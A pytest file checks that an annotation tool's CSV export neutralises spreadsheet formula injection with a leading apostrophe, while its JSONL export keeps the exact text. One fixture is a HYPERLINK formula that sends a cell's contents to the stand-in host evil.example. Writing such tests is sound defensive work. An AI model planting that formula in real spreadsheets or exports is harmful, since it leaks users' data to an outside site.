"""Formula injection: text a spreadsheet would run as a formula is neutralised in the CSV.

A speaker, location, quote or claim beginning with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return is read by Excel, LibreOffice and Google Sheets as a formula
(``=HYPERLINK(...)`` sends the sheet's cells to another site when clicked). The CSV
writes such cells with a leading apostrophe; the JSONL keeps the exact text.
"""

from __future__ import annotations

import json

import pandas as pd
import pytest
from frictionless import validate

from annotate.datasets.exporters import csv as csv_exporter
from annotate.datasets.service import export_dataset
from tests.factories import make_annotation, make_transcript

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SPEAKER = "@SUM(A1)"
LOCATION = "+33 Paris"
QUOTE = "-1+2"
SUMMARY = "-4.2"  # a negative number in a free-text column is text too
TABBED = "\tTAB then text"
QUOTED = "'Tis a claim that starts with an apostrophe"

TRANSCRIPT = f"""Hearing with hostile cells

1000: {LOCATION}: {SPEAKER}

{QUOTE} is what the minister wrote on the board, and more words follow.
"""


@pytest.fixture
def hostile(annotator):
    segment = make_transcript(TRANSCRIPT, filename="hostile.txt").segments.get()
    assert (segment.speaker, segment.location) == (SPEAKER, LOCATION)
    first = make_annotation(
        annotator, segment, words=QUOTE, claim_text=HYPERLINK, verdict_summary=SUMMARY
    )
    second = make_annotation(
        annotator, segment, words="the minister", claim_text=QUOTED, verdict_summary=TABBED
    )
    return {"first": first, "second": second}


def _csv(tmp_path):
    export_dataset(actor=None, format="csv", out=tmp_path / "csv")
    return tmp_path / "csv"


def test_formula_cells_get_a_leading_apostrophe_and_otherwise_keep_their_text(hostile, tmp_path):
    package = _csv(tmp_path)
    frame = pd.read_csv(package / "data" / "annotations.csv", dtype=str, keep_default_na=False)
    rows = frame.set_index("annotation_id")
    first = rows.loc[str(hostile["first"].pk)]
    second = rows.loc[str(hostile["second"].pk)]
    expected = [
        (first, "claim_text", HYPERLINK),
        (first, "speaker", SPEAKER),
        (first, "location", LOCATION),
        (first, "quote", QUOTE),
        (first, "verdict_summary", SUMMARY),
        (second, "verdict_summary", TABBED),
        (second, "claim_text", QUOTED),
    ]
    for row, column, original in expected:
        cell = row[column]
        assert cell.startswith("'"), (column, cell)
        assert cell[1:] == original, column
        assert csv_exporter.restore(cell) == original
    # Numeric columns are numbers, never prefixed.
    assert first["start"] == str(hostile["first"].start)
    assert first["citation_count"] == "0"
    # Text that starts harmlessly is written as it is.
    assert second["quote"] == "the minister"


def test_the_jsonl_keeps_the_exact_text(hostile, tmp_path):
    export_dataset(actor=None, format="jsonl", out=tmp_path / "jsonl")
    lines = (tmp_path / "jsonl" / "data" / "segments.jsonl").read_text().splitlines()
    segment = json.loads(lines[0])
    assert (segment["speaker"], segment["location"]) == (SPEAKER, LOCATION)
    annotations = {a["id"]: a for a in segment["annotations"]}
    first = annotations[str(hostile["first"].pk)]
    assert (first["claim_text"], first["quote"], first["verdict_summary"]) == (
        HYPERLINK,
        QUOTE,
        SUMMARY,
    )
    second = annotations[str(hostile["second"].pk)]
    assert (second["claim_text"], second["verdict_summary"]) == (QUOTED, TABBED)


def test_the_package_says_so_and_still_validates(hostile, tmp_path):
    package = _csv(tmp_path)
    report = validate(str(package / "datapackage.json"))
    assert report.valid, report.flatten(["type", "note"])
    manifest = json.loads((package / "datapackage.json").read_text())
    resource = next(r for r in manifest["resources"] if r["name"] == "annotations")
    assert "apostrophe" in resource["description"]
    fields = {f["name"]: f for f in resource["schema"]["fields"]}
    assert "apostrophe" in fields["claim_text"]["description"]
    assert "apostrophe" not in fields.get("start", {}).get("description", "")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@A1",
        "\tx",
        "\rx",
        "\x00x",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20A1",
        "'x",
        "''x",
    ],
)
def test_every_formula_start_is_neutralised_and_restored(text):
    assert csv_exporter.neutralise(text) == "'" + text
    assert csv_exporter.restore(csv_exporter.neutralise(text)) == text


@pytest.mark.parametrize("text", ["", "plain", "1+1", " =1", "a=b", "https://example.org"])
def test_other_text_is_unchanged(text):
    assert csv_exporter.neutralise(text) == text
    assert csv_exporter.restore(text) == text
